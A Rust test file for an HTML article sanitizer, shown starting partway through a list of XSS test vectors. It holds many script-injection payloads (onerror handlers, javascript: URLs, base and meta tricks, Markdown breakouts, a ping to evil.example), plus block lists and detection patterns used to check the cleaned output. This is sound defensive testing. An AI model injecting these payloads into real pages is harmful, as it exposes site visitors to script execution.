    b("dialog-open", r##"<dialog open onclose=alert(1)><form method="dialog"><button>x</button></form></dialog>"##),
    b("portal-src", r##"<portal src="javascript:alert(1)"></portal>"##),
    b("data-attributes", r##"<div data-bind="html: '<img src=x onerror=alert(1)>'" data-onload="alert(1)">Bound text.</div>"##),
    b("target-blank", r##"<a href="https://ok.example/" target="_blank" rel="opener" ping="https://evil.example/p">new tab</a>"##),
    // ---- Markdown breakouts: the Markdown output must not turn into live HTML either ----
    b("md-href-paren-breakout", r##"<p><a href="https://ok.example/a)[x](javascript:alert(1)">paren link</a></p>"##),
    b("md-href-angle-breakout", r##"<p><a href="https://ok.example/a><img src=x onerror=alert(1)>">angle link</a></p>"##),
    b("md-href-space-title", r##"<p><a href="https://ok.example/a &quot;t&quot;) <img src=x onerror=alert(1)>">title link</a></p>"##),
    b("md-img-src-paren", r##"<p><img src="https://ok.example/a.png)![x](javascript:alert(1)" alt="paren image"></p>"##),
    b("md-img-alt-breakout", r##"<p><img src="ok.png" alt="x](javascript:alert(1)) <img src=y onerror=alert(1)>"></p>"##),
    b("md-link-text-brackets", r##"<p><a href="https://ok.example/">a](javascript:alert(1)) [b</a></p>"##),
    b("md-text-link-syntax", r##"<p>[click me](javascript:alert(1)) and ![i](javascript:alert(2))</p>"##),
    b("md-text-autolink", r##"<p>&lt;javascript:alert(1)&gt; &lt;https://ok.example/&gt;</p>"##),
    b("md-text-html-block", "<p>&lt;div onclick=alert(1)&gt;\n&lt;script&gt;alert(2)&lt;/script&gt;</p>"),
    b("md-text-reference-def", "<p>[x]: javascript:alert(1)</p><p>[x]</p>"),
    b("md-pre-fence-breakout", "<pre>```\n<img src=x onerror=alert(1)>\n```\n&lt;script&gt;alert(1)&lt;/script&gt;</pre>"),
    b("md-pre-tilde-breakout", "<pre><code class=\"language-html\">~~~\n&lt;script&gt;alert(1)&lt;/script&gt;\n```\n&lt;img src=x onerror=alert(2)&gt;</code></pre>"),
    b("md-code-backticks", r##"<p><code>`` &lt;img src=x onerror=alert(1)&gt; ``</code></p>"##),
    b("md-code-language-class", r##"<pre><code class="language-js&quot;onmouseover=alert(1)">let x = 1;</code></pre>"##),
    b("md-heading-html", r##"<h2>&lt;img src=x onerror=alert(1)&gt; heading</h2>"##),
    b("md-table-cell-html", r##"<table><tr><th>a</th><th>b</th></tr><tr><td>x | &lt;script&gt;alert(1)&lt;/script&gt;</td><td>&lt;img src=x onerror=alert(1)&gt;</td></tr></table>"##),
    b("md-mailto-breakout", r##"<p><a href="mailto:a@ok.example)[x](javascript:alert(1)">mail link</a></p>"##),
    b("md-entity-amp", r##"<p>&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; &amp;#60;img src=x onerror=alert(1)&amp;#62;</p>"##),
    b("md-list-item-html", r##"<ul><li>&lt;script&gt;alert(1)&lt;/script&gt;</li><li>&lt;iframe src=javascript:alert(1)&gt;</li></ul>"##),
    b("md-blockquote-html", r##"<blockquote>&lt;svg onload=alert(1)&gt;</blockquote>"##),
    eats("plaintext", r##"<plaintext><img src=x onerror=alert(1)>"##),
    eats("unclosed-textarea", r##"<textarea><img src=x onerror=alert(1)>"##),
    eats("unclosed-script", r##"<script>alert(1)"##),
    eats("unclosed-comment", r##"<!-- <img src=x onerror=alert(1)>"##),
    // ---- in the head ---------------------------------------------------------------------
    h("head-base-js", r##"<base href="javascript:alert(1)//">"##),
    h("head-base-data", r##"<base href="data:text/html,x">"##),
    h("head-meta-refresh-js", r##"<meta http-equiv="refresh" content="0;url=javascript:alert(1)">"##),
    h("head-script", r##"<script>alert(1)</script>"##),
    h("head-style-url", r##"<style>body{background:url(javascript:alert(1))}</style>"##),
    h("head-og-title-script", r##"<meta property="og:description" content="<script>alert(1)</script>">"##),
    h("head-link-import", r##"<link rel="import" href="data:text/html,<script>alert(1)</script>">"##),
    h("head-noscript-img", r##"<noscript><img src=x onerror=alert(1)></noscript>"##),
];

// ---------------------------------------------------------------------------------------

/// A page that shows nothing without scripts and serves its article in a `<noscript>`, with
/// the vector inside it (the pipeline then cleans the `<noscript>`'s content as the page).
fn noscript_page(v: &Vector) -> String {
    let p = PROSE.iter().map(|p| format!("<p>{p}</p>")).collect::<Vec<_>>();
    format!(
        r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>The last tide mill on the estuary turns again | Harbour Times</title>
<meta property="og:title" content="The last tide mill on the estuary turns again">
<meta property="og:site_name" content="Harbour Times">
</head>
<body>
<div id="app"></div>
<noscript>
<article><h1>The last tide mill on the estuary turns again</h1>
{} {} {}
{}
{} {} {}
</article>
</noscript>
<script src="/app.js"></script>
</body>
</html>
"#,
        p[0], p[1], p[2], v.html, p[3], p[4], p[5]
    )
}

fn page(v: &Vector) -> String {
    let (head, body) = match v.place {
        Place::Head => (v.html, ""),
        Place::Body | Place::BodyEatsRest => ("", v.html),
    };
    format!(
        r#"<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>The last tide mill on the estuary turns again | Harbour Times</title>
<meta property="og:title" content="The last tide mill on the estuary turns again">
<meta property="og:site_name" content="Harbour Times">
<meta property="article:published_time" content="2024-05-17T09:00:00+01:00">
{head}
</head>
<body>
<header class="masthead"><a href="/">Harbour Times</a> <nav><a href="/news/">News</a> <a href="/sport/">Sport</a> <a href="/subscribe/">Subscribe</a></nav></header>
<main>
<article class="story">
<h1>The last tide mill on the estuary turns again</h1>
<div class="story-body">
<p>{p0}</p>
<p>{p1}</p>
<p>{p2}</p>
{body}
<p>{p3}</p>
<p>{p4}</p>
<p>{p5}</p>
</div>
</article>
</main>
<footer class="site-footer"><p>Harbour Times, all rights reserved</p></footer>
</body>
</html>
"#,
        p0 = PROSE[0],
        p1 = PROSE[1],
        p2 = PROSE[2],
        p3 = PROSE[3],
        p4 = PROSE[4],
        p5 = PROSE[5],
    )
}

/// Tag names the output may hold (the allowlist's output names).
const OUT_TAGS: &[&str] = &[
    "a",
    "abbr",
    "address",
    "annotation",
    "article",
    "audio",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "iframe",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "math",
    "menclose",
    "merror",
    "mfrac",
    "mi",
    "mmultiscripts",
    "mn",
    "mo",
    "mover",
    "mpadded",
    "mphantom",
    "mroot",
    "mrow",
    "ms",
    "mspace",
    "msqrt",
    "mstyle",
    "msub",
    "msubsup",
    "msup",
    "mtable",
    "mtd",
    "mtext",
    "mtr",
    "munder",
    "munderover",
    "ol",
    "p",
    "picture",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "semantics",
    "small",
    "source",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "track",
    "u",
    "ul",
    "var",
    "video",
    "wbr",
];

/// Attribute names the output may hold.
const OUT_ATTRS: &[&str] = &[
    "href",
    "src",
    "srcset",
    "alt",
    "title",
    "width",
    "height",
    "sizes",
    "media",
    "type",
    "lang",
    "dir",
    "id",
    "cite",
    "datetime",
    "colspan",
    "rowspan",
    "start",
    "class",
    "display",
    "poster",
    "controls",
    "sandbox",
    "allowfullscreen",
];

/// Hosts (with path prefix) whose player iframes may be kept.
const PLAYERS: &[&str] = &[
    "www.youtube.com/embed/",
    "youtube.com/embed/",
    "www.youtube-nocookie.com/embed/",
    "player.vimeo.com/video/",
    "www.dailymotion.com/embed/",
    "geo.dailymotion.com/player",
    "player.twitch.tv/",
    "www.tiktok.com/embed/",
    "w.soundcloud.com/player/",
    "open.spotify.com/embed/",
    "player.bilibili.com/",
    "rutube.ru/play/embed/",
    "vk.com/video_ext.php",
    "www.facebook.com/plugins/video.php",
    "embed.ted.com/talks/",
    "archive.org/embed/",
    "fast.wistia.net/embed/",
    "player.dailymotion.com/",
];

/// One start tag of the output: its name and attributes (values unescaped).
struct Tag {
    name: String,
    attrs: Vec<(String, String)>,
}

fn unescape(v: &str) -> String {
    v.replace("&quot;", "\"")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&nbsp;", "\u{a0}")
        .replace("&amp;", "&")
}

/// Reads the start tags of serialized output. The serializer escapes `<` in text and `"` in
/// attribute values, so every `<` followed by a letter starts a real tag.
fn start_tags(html: &str) -> Result<Vec<Tag>, String> {
    let b = html.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'<' {
            i += 1;
            continue;
        }
        i += 1;
        if i < b.len() && b[i] == b'/' {
            continue;
        }
        let start = i;
        while i < b.len() && !b[i].is_ascii_whitespace() && b[i] != b'>' {
            i += 1;
        }
        let name = html[start..i].to_ascii_lowercase();
        let mut attrs = Vec::new();
        loop {
            // `/` before `>` (`<img … />`, as Markdown renderers write it) is no attribute.
            while i < b.len() && (b[i].is_ascii_whitespace() || (b[i] == b'/' && b.get(i + 1) == Some(&b'>'))) {
                i += 1;
            }
            if i >= b.len() {
                return Err(format!("unterminated tag <{name}"));
            }
            if b[i] == b'>' {
                i += 1;
                break;
            }
            let n0 = i;
            while i < b.len() && !matches!(b[i], b'=' | b'>') && !b[i].is_ascii_whitespace() {
                i += 1;
            }
            let an = html[n0..i].to_ascii_lowercase();
            let mut value = String::new();
            if i < b.len() && b[i] == b'=' {
                i += 1;
                if i >= b.len() || b[i] != b'"' {
                    return Err(format!("unquoted value of {an} on <{name}>"));
                }
                i += 1;
                let v0 = i;
                while i < b.len() && b[i] != b'"' {
                    i += 1;
                }
                value = unescape(&html[v0..i.min(b.len())]);
                i += 1;
            }
            attrs.push((an, value));
        }
        out.push(Tag { name, attrs });
    }
    Ok(out)
}

/// Whether a URL attribute's value is of a safe kind, read as a browser reads it: ASCII tabs
/// and newlines removed, leading and trailing C0 controls and spaces trimmed, then a scheme
/// if the text before the first `:` is one. Relative references are safe.
fn safe_url(v: &str) -> bool {
    let v: String = v.chars().filter(|c| !matches!(c, '\t' | '\n' | '\r')).collect();
    let l = v.trim_matches(|c: char| c <= ' ').to_ascii_lowercase();
    let end = l.find([':', '/', '?', '#']).unwrap_or(l.len());
    let is_scheme = l[end..].starts_with(':')
        && l[..end].chars().next().is_some_and(|c| c.is_ascii_alphabetic())
        && l[..end].chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    if !is_scheme {
        return true;
    }
    l.starts_with("https:")
        || l.starts_with("http:")
        || l.starts_with("mailto:")
        || ["png", "jpeg", "jpg", "gif", "webp", "avif", "bmp"]
            .iter()
            .any(|t| l.starts_with(&format!("data:image/{t};")) || l.starts_with(&format!("data:image/{t},")))
}

/// Attributes that hold URLs; their scheme is checked, not their whole text.
const URL_ATTRS: &[&str] = &["href", "src", "srcset", "cite", "poster"];

/// Attributes that hold prose; `javascript:` in them is only words.
const TEXT_ATTRS: &[&str] = &["alt", "title"];

/// Substrings that must not appear in the markup (tag names, attribute names and values
/// other than prose and checked URLs).
const BAD_IN_MARKUP: &[&str] =
    &["javascript:", "vbscript:", "data:text", "data:image/svg", "srcdoc", "formaction", "style", "expression("];

/// Tags that must not appear at all. Text escapes `<`, so every `<name` is a real tag.
const BAD_TAGS: &[&str] = &[
    "<script",
    "<svg",
    "<base",
    "<meta",
    "<style",
    "<object",
    "<embed",
    "<form",
    "<template",
    "<link",
    "<frame",
    "<noscript",
    "<input",
    "<button",
    "<textarea",
    "<select",
    "<applet",
    "<portal",
    "<isindex",
    "<xmp",
    "<plaintext",
    "<title",
    "<param",
    "<dialog",
    "<marquee",
    "<body",
    "<html",
    "<head",
    "<image",
    "<use",
];

/// What is wrong with the cleaned HTML of one page. Besides the safety rules (no
/// script, handler, `javascript:`/`vbscript:`/`data:text` URL, SVG, foreign iframe, srcdoc,
/// formaction, base, meta, style, object, embed, form, template, and prefixed ids), every
/// tag and attribute must be on the allowlist and every URL of a safe kind. `javascript:`
/// as words (in text, `alt`, `title`, or the path of an https URL) is inert and allowed.
fn problems(html: &str) -> Vec<String> {
    let mut p = Vec::new();
    let lower = html.to_lowercase();
    for bad in BAD_TAGS {
        if lower.contains(bad) {
            p.push(format!("contains {bad:?}"));
        }
    }
    // An `on…=` attribute: attribute values are double-quoted and hold no `"`, so a
    // handler inside a value (`alt="&lt;img onerror=…"`) is text and does not match.
    let on_attr = regex::Regex::new(r#"(?i)<[a-z][a-z0-9]*(\s+[^\s="<>]+(="[^"]*")?)*\s+on[a-z]+\s*="#).unwrap();
    if let Some(m) = on_attr.find(html) {
        p.push(format!("event handler in {:?}", m.as_str()));
    }
    let tags = match start_tags(html) {
        Ok(t) => t,
        Err(e) => {
            p.push(format!("output does not tokenize: {e}"));
            return p;
        }
    };
    for t in &tags {
        if !OUT_TAGS.contains(&t.name.as_str()) {
            p.push(format!("tag <{}> is not in the allowlist", t.name));
        }
        for (n, v) in &t.attrs {
            if n.starts_with("on") {
                p.push(format!("event handler {n} on <{}>", t.name));
            }
            if !OUT_ATTRS.contains(&n.as_str()) {
                p.push(format!("attribute {n}={v:?} on <{}> is not in the allowlist", t.name));
            }
            let lv = v.to_lowercase();
            for bad in BAD_IN_MARKUP {
                let in_value =
                    !URL_ATTRS.contains(&n.as_str()) && !TEXT_ATTRS.contains(&n.as_str()) && lv.contains(bad);
                if n.contains(bad) || in_value {
                    p.push(format!("{bad:?} in {n}={v:?} on <{}>", t.name));
                }
            }
            match n.as_str() {
                "id" if !v.starts_with("unboil-") => p.push(format!("id {v:?} lacks the unboil- prefix")),
                "class" if !v.split_whitespace().all(|c| c.starts_with("language-")) => p.push(format!("class {v:?}")),
                "href" | "src" | "cite" | "poster" if !safe_url(v) => p.push(format!("{n}={v:?} on <{}>", t.name)),
                "srcset" => {
                    for cand in v.split(", ") {
                        let u = cand.split_whitespace().next().unwrap_or("");
                        if !safe_url(u) {
                            p.push(format!("srcset candidate {u:?}"));
                        }
                    }
                }
                _ => {}
            }
        }
        if t.name == "iframe" {
            let src = t.attrs.iter().find(|(n, _)| n == "src").map(|(_, v)| v.as_str()).unwrap_or("");
            let host_ok = src.strip_prefix("https://").is_some_and(|r| PLAYERS.iter().any(|h| r.starts_with(h)));
            let sandbox = t.attrs.iter().find(|(n, _)| n == "sandbox").map(|(_, v)| v.as_str());
            if !host_ok {
                p.push(format!("iframe from {src:?}"));
            }
            match sandbox {
                None => p.push("iframe without sandbox".into()),
                Some(s) if s.contains("allow-top-navigation") || s.contains("allow-modals") => {
                    p.push(format!("iframe sandbox {s:?} is widened"));
                }
                _ => {}
            }
        }
    }
    p
}

/// Tags a CommonMark renderer may write for the Markdown of an article.
const MD_TAGS: &[&str] = &[
    "p",
    "a",
    "img",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "em",
    "strong",
    "code",
    "pre",
    "ul",
    "ol",
    "li",
    "blockquote",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "hr",
    "br",
    "del",
];

/// What is wrong with Markdown once a CommonMark renderer that passes raw HTML through
/// (the default of most) has turned it into HTML: only Markdown's own tags, no handlers,
/// and only safe URLs.
fn markdown_problems(md: &str) -> Vec<String> {
    let mut rendered = String::new();
    let parser = pulldown_cmark::Parser::new_ext(
        md,
        pulldown_cmark::Options::ENABLE_TABLES | pulldown_cmark::Options::ENABLE_STRIKETHROUGH,
    );
    pulldown_cmark::html::push_html(&mut rendered, parser);
    let mut p = Vec::new();
    let tags = match start_tags(&rendered) {
        Ok(t) => t,
        Err(e) => return vec![format!("rendered Markdown does not tokenize: {e}")],
    };
    for t in &tags {
        if !MD_TAGS.contains(&t.name.as_str()) {
            p.push(format!("renders <{}>", t.name));
        }
        for (n, v) in &t.attrs {
            let ok = match n.as_str() {
                "href" | "src" => safe_url(v),
                "alt" | "title" | "start" => true,
                "class" => v.starts_with("language-"),
                "style" => matches!(t.name.as_str(), "th" | "td") && v.starts_with("text-align:"),
                _ => false,
            };
            if !ok {
                p.push(format!("renders {n}={v:?} on <{}>", t.name));
            }
        }
    }
    p
}

fn norm(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// What went wrong with one vector: markup that must not be there, and prose that was lost.
#[derive(Default)]
struct Outcome {
    unsafe_output: Vec<String>,
    lost_prose: Vec<String>,
}

fn check_page(v: &Vector, page: &str, url: Option<&str>) -> Outcome {
    let options = Options { url: url.map(str::to_string), ..Default::default() };
    let article = match clean_article(Input::Str(page), &options) {
        Ok(a) => a,
        Err(e) => return Outcome { lost_prose: vec![format!("error {e}")], ..Outcome::default() },
    };
    let mut out = Outcome { unsafe_output: problems(&article.html), ..Outcome::default() };
    // The Markdown, rendered by a CommonMark renderer that passes raw HTML through (the
    // default of most), must be just as inert.
    let md = article.markdown.clone().unwrap_or_default();
    out.unsafe_output.extend(markdown_problems(&md).into_iter().map(|m| format!("markdown: {m}")));
    // The prose must survive, in order, so the test cannot pass by emptying the output.
    let text = norm(&article.text);
    let html = norm(&article.html);
    let need = if v.place == Place::BodyEatsRest { &PROSE[..3] } else { &PROSE[..] };
    let mut pos = 0;
    for (k, para) in need.iter().enumerate() {
        match text.get(pos..).and_then(|t| t.find(para)) {
            Some(at) => pos += at + para.len(),
            None => out.lost_prose.push(format!("prose paragraph {} lost or out of order in the text", k + 1)),
        }
        if !html.contains(para) {
            out.lost_prose.push(format!("prose paragraph {} missing from the HTML", k + 1));
        }
    }
    out
}

/// Runs `vectors` through `make_page` and fails with one list of unsafe outputs and one of
/// lost prose, each line naming its vector.
fn run<'a>(what: &str, vectors: impl Iterator<Item = &'a Vector>, make_page: fn(&Vector) -> String, url: Option<&str>) {
    let (mut unsafe_output, mut lost_prose, mut n) = (Vec::new(), Vec::new(), 0);
    for v in vectors {
        n += 1;
        let o = check_page(v, &make_page(v), url);
        if !o.unsafe_output.is_empty() {
            unsafe_output.push(format!("  {}: {}", v.name, o.unsafe_output.join("; ")));
        }
        if !o.lost_prose.is_empty() {
            lost_prose.push(format!("  {}: {}", v.name, o.lost_prose.join("; ")));
        }
    }
    assert!(
        unsafe_output.is_empty() && lost_prose.is_empty(),
        "{what}: of {n} vectors, {} leave unsafe output and {} lose the prose around them\nUNSAFE OUTPUT:\n{}\nLOST PROSE:\n{}",
        unsafe_output.len(),
        lost_prose.len(),
        unsafe_output.join("\n"),
        lost_prose.join("\n"),
    );
}

#[test]
fn there_are_enough_vectors() {
    assert!(VECTORS.len() >= 150, "only {} vectors", VECTORS.len());
    let mut names: Vec<_> = VECTORS.iter().map(|v| v.name).collect();
    names.sort_unstable();
    let n = names.len();
    names.dedup();
    assert_eq!(names.len(), n, "vector names are unique");
}

#[test]
fn the_checker_catches_bad_output() {
    // The checks themselves must fire on the things they look for.
    for bad in [
        r#"<p onclick="x">t</p>"#,
        r#"<p title="a" onclick="x">t</p>"#,
        r#"<p style="color:red">t</p>"#,
        r#"<p lang="javascript:x">t</p>"#,
        r#"<svg></svg>"#,
        "<a href=\"\tjava\nscript:x\">t</a>",
        r#"<a href="JAVASCRIPT:x">t</a>"#,
        r#"<a href="javascript:x">t</a>"#,
        r#"<img src="data:image/svg+xml;base64,AA">"#,
        r#"<iframe src="https://evil.example/"></iframe>"#,
        r#"<iframe src="https://www.youtube.com/embed/x"></iframe>"#,
        r#"<p id="x">t</p>"#,
        r#"<span>t</span>"#,
        r#"<p name="cookie">t</p>"#,
        r#"<p class="lead">t</p>"#,
        r#"<img srcset="https://ok.example/a.png 1x, vbscript:x 2x">"#,
    ] {
        assert!(!problems(bad).is_empty(), "checker misses {bad}");
    }
    let good = r#"<p id="unboil-a" title="t">x &lt;script&gt; <a href="https://ok.example/?a=1&amp;b=2">l</a></p><iframe src="https://www.youtube.com/embed/x" sandbox="allow-scripts allow-same-origin allow-presentation allow-popups" allowfullscreen=""></iframe><pre class="language-rust"><code class="language-rust">x</code></pre>"#;
    assert!(problems(good).is_empty(), "{:?}", problems(good));
    // Words are not markup.
    let words = r#"<p title="javascript: is a scheme">javascript:alert(1) &lt;script&gt;</p><a href="https://ok.example/a)(javascript:x">t</a>"#;
    assert!(problems(words).is_empty(), "{:?}", problems(words));
    for bad_md in [
        "[x](javascript:alert(1))",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![i](data:image/svg+xml;base64,AA)",
    ] {
        assert!(!markdown_problems(bad_md).is_empty(), "markdown checker misses {bad_md}");
    }
    assert!(markdown_problems("# T\n\n*a* [l](https://ok.example/) `c`\n\n| a |\n| --- |\n| b |\n").is_empty());
}

#[test]
fn xss_vectors_are_neutralized() {
    run("vectors in an article page", VECTORS.iter(), page, Some(URL));
}

/// The same vectors inside a `<noscript>` that holds the whole article. Vectors that close the
/// `<noscript>` themselves, head vectors and those that swallow the rest are left out.
#[test]
fn xss_vectors_in_a_noscript_article_are_neutralized() {
    let body = VECTORS.iter().filter(|v| v.place == Place::Body && !v.html.to_ascii_lowercase().contains("noscript"));
    run("vectors in a <noscript> article", body, noscript_page, Some(URL));
}

/// The same vectors when the caller gives no page URL, so relative references stay relative.
#[test]
fn xss_vectors_without_a_page_url_are_neutralized() {
    run("vectors without a page URL", VECTORS.iter(), page, None);
}

/// Prints the output of one vector: `XSS_VECTOR=name cargo test --test xss_emit show -- --nocapture`.
#[test]
fn show() {
    let Ok(name) = std::env::var("XSS_VECTOR") else { return };
    for v in VECTORS.iter().filter(|v| v.name == name) {
        let options = Options { url: Some(URL.to_string()), ..Default::default() };
        let a = clean_article(Input::Str(&page(v)), &options).expect("cleans");
        println!("{}\n----- markdown -----\n{}", a.html, a.markdown.unwrap_or_default());
    }
}

/// The browser corpus (`tests/xss/vectors.jsonl`, which `tests/browser/xss.test.mjs` runs in
/// Chromium) through the same string checks.
#[test]
fn browser_corpus_passes_the_string_checks() {
    let corpus =
        std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/xss/vectors.jsonl")).expect("the corpus");
    let vectors: Vec<Vector> = corpus
        .lines()
        .filter(|line| !line.is_empty())
        .map(|line| {
            let v: serde_json::Value = serde_json::from_str(line).expect("one JSON object a line");
            let text =
                |key: &str| -> &'static str { String::leak(v[key].as_str().expect("a string field").to_owned()) };
            let place = match text("place") {
                "head" => Place::Head,
                "eats" => Place::BodyEatsRest,
                _ => Place::Body,
            };
            Vector { name: text("name"), html: text("html"), place }
        })
        .collect();
    assert!(vectors.len() >= 500, "only {} vectors", vectors.len());
    run("the browser corpus in an article page", vectors.iter(), page, Some(URL));
}
